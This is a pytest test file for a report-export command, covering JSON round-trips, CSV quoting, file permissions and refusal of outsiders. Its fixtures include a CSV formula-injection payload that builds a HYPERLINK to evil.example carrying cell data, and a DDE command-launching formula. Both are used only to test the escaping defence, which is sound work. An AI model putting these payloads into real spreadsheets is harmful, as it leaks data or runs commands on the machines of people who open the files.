"""`app.py reports export`: JSON that round-trips, CSV that a spreadsheet cannot be tricked by."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import timedelta

import pytest

from adapters.cli.export import guard_formula, report_columns
from adapters.cli.reports import export_reports
from bot.ports import UnitOfWorkFactory
from bot.report import Contact, Evidence, EvidenceFile, LinkKind, Outcome, Report, ReportLink
from bot.triage import NotAllowed
from tests.factories import CREATED_AT, make_report
from tests.triage.support import MEMBER, OUTSIDER, refusals, stored

INJECTION = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'


async def store_all(uow_factory: UnitOfWorkFactory, reports: list[Report]) -> None:
    async with uow_factory() as uow:
        for report in reports:
            await uow.reports.add(report)
        await uow.commit()


async def export(triage, fmt: str) -> str:
    out = io.StringIO(newline="")
    assert await export_reports(triage, MEMBER, fmt, out) == 0
    return out.getvalue()


@pytest.fixture
async def two_reports(uow_factory) -> list[Report]:
    reports = [
        make_report(created_at=CREATED_AT + timedelta(hours=1), what_happened="Zweiter Bericht: ünïcödé ✓"),
        make_report(
            created_at=CREATED_AT,
            contact=Contact(
                name_used=INJECTION,
                organisation="@SUM(1+1)",
                emails=["a@example.com", "b@example.com"],
                phones=["+44 20 7946 0001"],
            ),
            evidence=Evidence(
                files=[
                    EvidenceFile(id="f1", name="one.png", mime_type="image/png"),
                    EvidenceFile(id="f2", name="two.pdf"),
                ]
            ),
            what_happened="\tTab first\r\nthen a new line",
            routed_to=["file"],
        ),
    ]
    await store_all(uow_factory, reports)
    return reports


async def test_json_round_trips_to_the_stored_reports_oldest_first(uow_factory, triage, two_reports):
    text = await export(triage, "json")

    documents = json.loads(text)
    exported = [Report.model_validate(document) for document in documents]
    newer, older = two_reports
    assert exported == [
        await stored(uow_factory, older.reference),
        await stored(uow_factory, newer.reference),
    ]
    assert documents[0] == older.model_dump(mode="json")
    assert "ünïcödé ✓" in text  # ensure_ascii=False
    assert text.startswith('[\n  {\n    "schema_version": 1,')


async def test_json_round_trips_links_routing_and_handling(uow_factory, triage, two_reports):
    newer, older = two_reports
    await triage.link(newer.reference, older.reference, LinkKind.DUPLICATE, MEMBER)
    await triage.close(older.reference, Outcome.DUPLICATE, MEMBER)

    exported = [Report.model_validate(d) for d in json.loads(await export(triage, "json"))]

    assert exported == [await stored(uow_factory, r.reference) for r in (older, newer)]
    assert exported[0].links == [ReportLink(reference=newer.reference, kind=LinkKind.DUPLICATE)]
    assert (exported[0].outcome, exported[0].routed_to) == (Outcome.DUPLICATE, ["file"])


async def test_json_of_nothing_is_an_empty_list(triage):
    assert json.loads(await export(triage, "json")) == []


async def test_csv_has_one_row_per_report_and_one_column_per_field(triage, two_reports):
    rows = list(csv.DictReader(io.StringIO(await export(triage, "csv"), newline="")))

    newer, older = two_reports
    assert [row["reference"] for row in rows] == [older.reference, newer.reference]
    assert list(rows[0]) == report_columns()
    row = rows[0]
    assert row["contact.emails"] == "a@example.com; b@example.com"
    assert row["approach_kinds"] == "recruiter; payment_offer"
    assert row["evidence.files.name"] == "one.png; two.pdf"
    assert row["evidence.files.mime_type"] == "image/png"
    assert row["contact_preference.may_contact"] == "true"
    assert row["outcome"] == ""
    assert row["created_at"] == "2026-03-14T09:30:00Z"
    assert rows[1]["what_happened"] == "Zweiter Bericht: ünïcödé ✓"


async def test_csv_cells_cannot_become_formulas(triage, two_reports):
    row = next(csv.DictReader(io.StringIO(await export(triage, "csv"), newline="")))

    assert row["contact.name_used"] == "'" + INJECTION
    assert row["contact.organisation"] == "'@SUM(1+1)"
    assert row["contact.phones"] == "'+44 20 7946 0001"
    assert row["what_happened"] == "'\tTab first\r\nthen a new line"  # the csv module quotes the newline


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("Jane", "Jane"),
    ],
)
def test_guard_formula(cell, guarded):
    assert guard_formula(cell) == guarded


async def test_csv_of_nothing_is_just_the_header(triage):
    text = await export(triage, "csv")
    assert text == ",".join(f'"{column}"' for column in report_columns()) + "\r\n"


async def test_export_to_a_file_is_private(run, two_reports, tmp_path):
    target = tmp_path / "reports.csv"
    target.write_text("old and world-readable")
    target.chmod(0o644)

    code, out, err = await run("reports", "export", "--format", "csv", "--output", str(target))

    assert (code, out) == (0, "")
    assert err == f"Exported to {target}.\n"
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    with target.open(newline="", encoding="utf-8") as file:
        assert len(list(csv.DictReader(file))) == 2


async def test_export_to_the_screen_is_json_oldest_first(run, two_reports):
    code, out, err = await run("reports", "export", "--format", "json")

    assert (code, err) == (0, "")
    newer, older = two_reports
    assert [d["reference"] for d in json.loads(out)] == [older.reference, newer.reference]


async def test_export_reports_refuses_an_outsider(triage, two_reports, engine):
    out = io.StringIO()
    with pytest.raises(NotAllowed):
        await export_reports(triage, OUTSIDER, "json", out)
    assert out.getvalue() == ""
    assert [r.actor for r in await refusals(engine)] == ["cli:mallory"]


async def test_an_outsider_gets_no_export_file(run, two_reports, engine, tmp_path):
    target = tmp_path / "reports.json"

    code, out, err = await run(
        "reports", "export", "--format", "json", "--output", str(target), actor=OUTSIDER
    )

    assert (code, out) == (1, "")
    assert err.startswith("cli:mallory is not a member of the security team")
    assert not target.exists()  # refused before the file is created
    [refusal] = await refusals(engine)
    assert (refusal.actor, refusal.report_reference, refusal.detail) == (
        "cli:mallory",
        None,
        {"attempted": "export", "reason": "not_team"},
    )


async def test_a_refused_export_to_the_screen_is_audited_as_an_export(run, two_reports, engine):
    code, _, _ = await run("reports", "export", "--format", "csv", actor=OUTSIDER)

    assert code == 1
    assert [r.detail["attempted"] for r in await refusals(engine)] == ["export"]


async def test_every_csv_cell_is_quoted_so_another_list_separator_cannot_split_out_a_formula(
    uow_factory, triage
):
    report = make_report(contact=Contact(name_used="foo;=cmd|' /C calc'!A0"))
    async with uow_factory() as uow:
        await uow.reports.add(report)
        await uow.commit()
    text = await export(triage, "csv")
    assert "\"foo;=cmd|' /C calc'!A0\"" in text
